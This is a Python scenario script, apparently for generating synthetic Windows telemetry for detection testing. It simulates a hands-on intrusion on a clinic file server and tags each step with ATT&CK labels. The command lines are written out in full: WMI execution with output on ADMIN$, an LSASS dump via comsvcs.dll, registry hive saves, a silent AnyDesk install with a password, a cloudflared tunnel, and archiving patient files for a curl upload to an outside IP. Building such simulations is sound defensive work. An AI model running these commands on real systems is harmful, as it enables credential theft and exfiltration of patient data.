"""A file server as its intruders see it: commands by WMI with answers on a share, LSASS and hives dumped, remote registry, a
tunnel as a service, remote desktop software, an archive sent away. Resembles hands-on intrusions before ransomware
(Impacket, 2023-2025)."""
import deeds
from scenery import Desktop

SETTING = {"start": "2024-10-13T23:31:02", "user": "KLINIK\\svc_backup", "home": "C:\\Users\\svc_backup",
           "computer": "KL-FILE2",
           "os_version": (10, 0, 20348)}
HIGH = {"integrity": "High", "session": 0}
ANSWER = r"\\127.0.0.1\ADMIN$\__1728862%03d.42"


class Intruder:
    """Commands that come over WMI: cmd under WmiPrvSE, whose answer goes to a file that is read over the share."""

    def __init__(self, c, desktop):
        self.c, self.desktop, self.count = c, desktop, 0
        self.system = c.system("System", "")
        launcher = c.system(c.system_root + r"\System32\svchost.exe",
                            c.system_root + r"\system32\svchost.exe -k DcomLaunch -p",
                            parent=desktop.services)
        self.wmi = c.spawn(launcher, c.system_root + r"\System32\wbem\WmiPrvSE.exe",
                           r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding",
                           user="NT AUTHORITY\\NETWORK SERVICE", sid="S-1-5-20", **deeds.MICROSOFT)
        c.load(self.wmi, c.system_root + r"\System32\wbem\cimwin32.dll")

    def begin(self, line):
        self.count += 1
        answer = ANSWER % self.count
        shell = deeds.tool(self.c, self.wmi, "cmd.exe /Q /c %s 1> %s 2>&1" % (line, answer), user=self.c.user,
                           directory="C:\\", sid=self.desktop.explorer.sid, **HIGH)
        self.c.drop(shell, answer, 600)
        return shell

    def run(self, line):
        """A command that is a program; the processes."""
        shell = self.begin(line)
        chain = [self.wmi, shell] + deeds.command(self.c, shell, line, shell=False)
        self.end(shell)
        return chain

    def end(self, shell):
        self.c.exit(shell)
        system_path = r"C:\Windows\__1728862%03d.42" % self.count
        self.c.read(self.system, system_path, 600)
        self.c.delete(self.system, system_path)


def story(c):
    desktop = Desktop(c)
    intruder = Intruder(c, desktop)
    c.host("203.0.113.81", "region1.v2.argotunnel.com")
    c.host("203.0.113.82", "download.anydesk.com")
    c.host("203.0.113.83", "relay-3f.net.anydesk.com")
    desktop.murmur(6)
    c.net(intruder.system, "Receive", ("10.0.2.9", 49788), 445, 300)
    with deeds.told(c, "commands come over WMI, with answers left on an administrative share", "high",
                    ("T1047", "T1021.002", "T1059.003"), intruder.wmi, ("ADMIN$", "127.0.0.1")) as helpers:
        helpers += intruder.run("whoami /all")
        helpers += intruder.run("quser")
    with deeds.told(c, "asks for the domain's controllers", "medium", ("T1018", "T1482"), intruder.wmi, "nltest") as helpers:
        helpers += intruder.run("nltest /dclist:klinik")
    with deeds.told(c, "asks who administers the domain", "medium", ("T1069.002", "T1087.002"), intruder.wmi,
                    "Domain Admins") as helpers:
        helpers += intruder.run('net group "Domain Admins" /domain')
    with deeds.told(c, "asks for stored credentials", "medium", ("T1555.004", "T1003.005"), intruder.wmi,
                    "cmdkey") as helpers:
        helpers += intruder.run("cmdkey /list")
    with deeds.told(c, "dumps the memory of LSASS by a library of Windows", "critical", "T1003.001", intruder.wmi,
                    ("comsvcs", "MiniDump")) as helpers:
        dump = r"C:\Windows\Temp\qlk9.docx"
        line = r"rundll32.exe C:\windows\System32\comsvcs.dll, #+000024 712 \Windows\Temp\qlk9.docx full"
        shell = intruder.begin(line)
        dumper = deeds.tool(c, shell, line)
        c.load(dumper, r"C:\Windows\System32\comsvcs.dll")
        c.load(dumper, r"C:\Windows\System32\dbgcore.dll")
        c.drop(dumper, dump, 1_800_000, 65536)
        c.exit(dumper)
        intruder.end(shell)
        helpers += [shell, dumper]
    c.set_value(desktop.services, deeds.SERVICES + r"\RemoteRegistry\Start", "REG_DWORD", 3)
    registry = deeds.tool(c, desktop.services, r"C:\Windows\system32\svchost.exe -k localService -p -s RemoteRegistry",
                          user="NT AUTHORITY\\LOCAL SERVICE", sid="S-1-5-19")
    with c.behaviour("the remote registry saves the hives of accounts and secrets", "critical",
                     ("T1003.002", "T1003.004", "T1003"),
                     (registry, intruder.wmi, desktop.services), ("SAM", "SECURITY")):
        for hive, name in (("HKLM\\SAM", "xLkWpq.tmp"), ("HKLM\\SECURITY", "YwBxru.tmp")):
            path = r"C:\Windows\System32\%s" % name
            c.save_key(registry, hive, path)
            c.drop(registry, path, 60_000)
            c.read(intruder.system, path, 60_000)
            c.delete(intruder.system, path)
    with deeds.told(c, "saves the hive of the system by reg", "high", ("T1003.002", "T1003.004", "T1003"), intruder.wmi,
                    ("reg save", "SYSTEM")) as helpers:
        line = r"reg save HKLM\SYSTEM C:\Windows\Temp\s1.log /y"
        shell = intruder.begin(line)
        saver = deeds.tool(c, shell, line)
        c.save_key(saver, r"HKLM\SYSTEM", r"C:\Windows\Temp\s1.log")
        c.drop(saver, r"C:\Windows\Temp\s1.log", 900_000)
        c.exit(saver)
        intruder.end(shell)
        helpers += [shell, saver]
    with deeds.told(c, "makes remote administration work without Windows' restriction", "high",
                    ("T1112", "T1548.002", "T1685", "T1550.002"), intruder.wmi,
                    ("DisableRestrictedAdmin", "LocalAccountTokenFilterPolicy")) as helpers:
        key = r"HKLM\SYSTEM\CurrentControlSet\Control\Lsa"
        shell = intruder.begin(r"reg add %s /v DisableRestrictedAdmin /t REG_DWORD /d 0 /f" % key)
        adder = deeds.tool(c, shell, r"reg add %s /v DisableRestrictedAdmin /t REG_DWORD /d 0 /f" % key)
        c.set_value(adder, key + r"\DisableRestrictedAdmin", "REG_DWORD", 0)
        c.exit(adder)
        intruder.end(shell)
        helpers += [shell, adder]
    desktop.murmur(2)
    with deeds.told(c, "fetches remote desktop software", "medium", ("T1105", "T1219.002"), intruder.wmi,
                    ("AnyDesk.exe", "download.anydesk.com")) as helpers:
        line = r"curl.exe -o C:\ProgramData\AnyDesk.exe https://download.anydesk.com/AnyDesk.exe"
        shell = intruder.begin(line)
        curl = deeds.tool(c, shell, line)
        c.exchange(curl, ("203.0.113.82", 443), 55110, [517, 240], [14_600] * 20)
        c.drop(curl, r"C:\ProgramData\AnyDesk.exe", 900_000, 131072)
        c.exit(curl)
        intruder.end(shell)
        helpers += [shell, curl]
    line = r'C:\ProgramData\AnyDesk.exe --install "C:\Program Files (x86)\AnyDesk" --start-with-win --silent'
    shell = intruder.begin(line)
    with deeds.told(c, "installs remote desktop software silently, as a service", "medium",
                    ("T1219.002", "T1219", "T1543.003"), (intruder.wmi, shell),
                    "AnyDesk") as helpers:
        setup = c.spawn(shell, r"C:\ProgramData\AnyDesk.exe", line, company="AnyDesk Software GmbH")
        c.drop(setup, r"C:\Program Files (x86)\AnyDesk\AnyDesk.exe", 900_000, 131072)
        deeds.service(c, desktop, "AnyDesk", r'"C:\Program Files (x86)\AnyDesk\AnyDesk.exe" --service')
        c.exit(setup)
        helpers.append(setup)
    intruder.end(shell)
    anydesk = c.spawn(desktop.services, r"C:\Program Files (x86)\AnyDesk\AnyDesk.exe",
                      r'"C:\Program Files (x86)\AnyDesk\AnyDesk.exe" --service',
                      company="AnyDesk Software GmbH")
    c.exchange(anydesk, ("203.0.113.83", 443), 55120, [517, 300], [3100, 900])
    line = r'echo J9a!ksW3c | "C:\Program Files (x86)\AnyDesk\AnyDesk.exe" --set-password'
    with deeds.told(c, "sets a password for access without the user", "high", ("T1219.002", "T1219", "T1098"),
                    intruder.wmi, "set-password") as helpers:
        shell = intruder.begin(line)
        inner = deeds.tool(c, shell, r'C:\Windows\system32\cmd.exe /S /D /c" echo J9a!ksW3c "')
        setter = c.spawn(shell, r"C:\Program Files (x86)\AnyDesk\AnyDesk.exe",
                         r'"C:\Program Files (x86)\AnyDesk\AnyDesk.exe" --set-password',
                         company="AnyDesk Software GmbH")
        c.exit(setter)
        c.exit(inner)
        intruder.end(shell)
        helpers += [shell, inner, setter]
    with deeds.told(c, "runs a tunnel as a service", "high", ("T1572", "T1543.003", "T1090"),
                    (intruder.wmi, desktop.services),
                    ("cloudflared", "wlupd.exe", "argotunnel")) as helpers:
        line = r"C:\ProgramData\wlupd.exe service install eyJhIjoiNWY0ZGNjM2I1YWE3NjVkNjFkODMyN2Rl"
        shell = intruder.begin(line)
        c.drop(intruder.system, r"C:\ProgramData\wlupd.exe", 900_000, 131072)
        installer = c.spawn(shell, r"C:\ProgramData\wlupd.exe", line, description="cloudflared")
        deeds.service(c, desktop, "Cloudflared",
                      r"C:\ProgramData\wlupd.exe tunnel run --token eyJhIjoiNWY0ZGNjM2I1YWE3NjVkNjFkODMyN2Rl",
                      display="Cloudflared agent")
        c.exit(installer)
        intruder.end(shell)
        tunnel = c.spawn(desktop.services, r"C:\ProgramData\wlupd.exe",
                         r"C:\ProgramData\wlupd.exe tunnel run --token eyJhIjoiNWY0ZGNjM2I1YWE3Nj")
        helpers += [shell, installer, tunnel]
        for number in range(4):
            c.exchange(tunnel, ("203.0.113.81", 7844), 55130 + number, [400] * 3, [500] * 3)
    with c.behaviour("goes through the tunnel to neighbours' remote desktops", "medium",
                     ("T1021.001", "T1572", "T1090.001", "T1090"), tunnel, ("3389", "10.0.2.12")):
        for last in (12, 13, 20):
            c.exchange(tunnel, ("10.0.2.%d" % last, 3389), 55140 + last, [500] * 4, [900] * 4)
    with deeds.told(c, "packs the share into an archive with a password", "high", ("T1560.001", "T1074.001"),
                    intruder.wmi, ("rar.exe", "pat.rar", "-hp")) as helpers:
        line = r"C:\ProgramData\rar.exe a -v400m -hpQ1w2 C:\ProgramData\pat.rar D:\Patienten"
        shell = intruder.begin(line)
        packer = c.spawn(shell, r"C:\ProgramData\rar.exe", line, company="Alexander Roshal")
        for number in range(24):
            c.read(packer, r"D:\Patienten\Akte %04d.pdf" % (1200 + number), 65536)
        c.drop(packer, r"C:\ProgramData\pat.rar", 900_000)
        c.exit(packer)
        intruder.end(shell)
        helpers += [shell, packer]
    with deeds.told(c, "sends the archive to a server by curl", "high", ("T1048", "T1048.002", "T1048.003", "T1041"),
                    intruder.wmi, ("pat.rar", "198.51.100.140")) as helpers:
        line = r"curl.exe -k -T C:\ProgramData\pat.rar sftp://up:x@198.51.100.140/in/"
        shell = intruder.begin(line)
        curl = deeds.tool(c, shell, line)
        c.read(curl, r"C:\ProgramData\pat.rar", 900_000)
        c.exchange(curl, ("198.51.100.140", 22), 55150, [14_600] * 40, [300])
        c.exit(curl)
        intruder.end(shell)
        helpers += [shell, curl]
    desktop.murmur(4)
